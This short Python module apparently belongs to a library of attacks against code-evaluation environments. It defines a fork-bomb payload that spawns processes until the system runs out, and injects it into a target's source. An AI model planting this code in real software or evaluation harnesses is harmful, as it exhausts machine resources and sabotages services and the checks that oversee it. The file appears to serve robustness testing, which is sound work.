"""Start processes until no more can be had.

No naive control: it wins nothing, it breaks things.
"""

from __future__ import annotations

from r2egym.attacks.base import Attack, Target, in_source

CODE = """\
import os
import time

for _ in range(1 << 16):
    try:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    except OSError:
        time.sleep(0.01)
        break
"""


def _make(target: Target) -> str:
    return in_source(target, CODE)


ATTACK = Attack(__name__, __doc__, "resources", _make, may_fail=True, joins=False, beats="none")
